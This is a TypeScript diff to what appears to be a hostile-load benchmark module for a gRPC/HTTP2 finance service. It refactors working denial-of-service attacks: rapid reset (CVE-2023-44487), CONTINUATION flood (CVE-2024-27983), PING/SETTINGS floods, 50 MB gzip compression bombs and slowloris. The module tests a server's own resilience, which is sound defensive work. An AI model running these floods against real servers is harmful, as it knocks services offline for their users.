@@ -1,5 +1,7 @@
 import { connect, type Socket } from 'node:net';
 import { gzipSync } from 'node:zlib';
+import { aborted } from './aborted.ts';
+import { bombsBelowTheLimit, bombsForHealth, headerOnlyCalls, healthWatches } from './call-attacks.ts';
 import { continuation, field, frame, headers, preface, reset } from './raw-http2.ts';
 
 /** Where to attack. */
@@ -10,32 +12,40 @@ export interface AttackTarget {
   readonly slowConnections: number;
 }
 
-/** Goes on until the signal aborts, then leaves nothing behind. */
-export type Attack = (target: AttackTarget, signal: AbortSignal) => Promise<void>;
+/** One way to attack. */
+export interface Attack {
+  /** Goes on until the signal aborts, then leaves nothing behind. @param heard told each answer that is waited for */
+  run(target: AttackTarget, signal: AbortSignal, heard: (answer: string) => void): Promise<void>;
+  /** What the server may answer, where answers are waited for. */
+  readonly expected?: readonly string[];
+}
+
+/** One whose answers nobody waits for. */
+type Flood = (target: AttackTarget, signal: AbortSignal) => Promise<void>;
 
 const path = '/finance.funds.v1.FundsService/ListFunds';
 
 /** Streams that are opened and taken back at once (CVE-2023-44487). */
-const rapidReset: Attack = (target, signal) =>
+const rapidReset: Flood = (target, signal) =>
   flood(target, signal, (round) => {
     const streams = Array.from({ length: 100 }, (_, index) => 2 * (round * 100 + index) + 1);
     return Buffer.concat(streams.flatMap((id) => [headers(id, path), reset(id)]));
   });
 
 /** Headers that never end (CVE-2024-27983). */
-const continuationFlood: Attack = (target, signal) =>
+const continuationFlood: Flood = (target, signal) =>
   flood(target, signal, (round) =>
     round === 0 ? headers(1, path, false) : Buffer.concat(Array.from({ length: 50 }, () => continuation(1, 1_000))),
   );
 
 /** Pings and settings that want an answer each. */
-const pingFlood: Attack = (target, signal) =>
+const pingFlood: Flood = (target, signal) =>
   flood(target, signal, () =>
     Buffer.concat(Array.from({ length: 100 }, () => [frame(0x6, 0, 0, Buffer.alloc(8)), frame(0x4, 0, 0)]).flat()),
   );
 
 /** Small messages that decompress to 50 MB. */
-const compressionBombs: Attack = (target, signal) => {
+const compressionBombs: Flood = (target, signal) => {
   const bomb = gzipSync(Buffer.alloc(50_000_000));
   const message = Buffer.concat([Buffer.of(1), lengthOf(bomb), bomb]);
   const parts = Array.from({ length: Math.ceil(message.length / 16_384) }, (_, index) =>
@@ -52,7 +62,7 @@ const compressionBombs: Attack = (target, signal) => {
 };
 
 /** Connections that say almost nothing: no greeting, headers letter by letter, a body that never comes. */
-const slowloris: Attack = async ({ grpcPort, httpPort, slowConnections }, signal) => {
+const slowloris: Flood = async ({ grpcPort, httpPort, slowConnections }, signal) => {
   const begin = [
     (socket: Socket) => socket.write('PRI'),
     (socket: Socket) => socket.write(`POST ${path} HTTP/1.1\r\nhost: x\r\n`),
@@ -74,11 +84,15 @@ const slowloris: Attack = async ({ grpcPort, httpPort, slowConnections }, signal
 
 /** What `bench:hostile` tries, by name. */
 export const attacks: Readonly<Record<string, Attack>> = {
-  'rapid reset': rapidReset,
-  'CONTINUATION flood': continuationFlood,
-  'PING and SETTINGS flood': pingFlood,
-  'compression bombs': compressionBombs,
-  slowloris,
+  'rapid reset': { run: rapidReset },
+  'CONTINUATION flood': { run: continuationFlood },
+  'PING and SETTINGS flood': { run: pingFlood },
+  'compression bombs': { run: compressionBombs },
+  slowloris: { run: slowloris },
+  'bombs below the limit': bombsBelowTheLimit,
+  'bombs for health': bombsForHealth,
+  'header-only calls': headerOnlyCalls,
+  'health watches': healthWatches,
 };
 
 /** One connection to each port that sends as fast as it is read, opened again whenever the server has had enough. */
@@ -114,11 +128,4 @@ function lengthOf(bytes: Buffer): Buffer {
   const length = Buffer.alloc(4);
   length.writeUInt32BE(bytes.length);
   return length;
-}
-
-function aborted(signal: AbortSignal): Promise<void> {
-  return new Promise((resolve) => {
-    if (signal.aborted) resolve();
-    else signal.addEventListener('abort', () => resolve(), { once: true });
-  });
 }
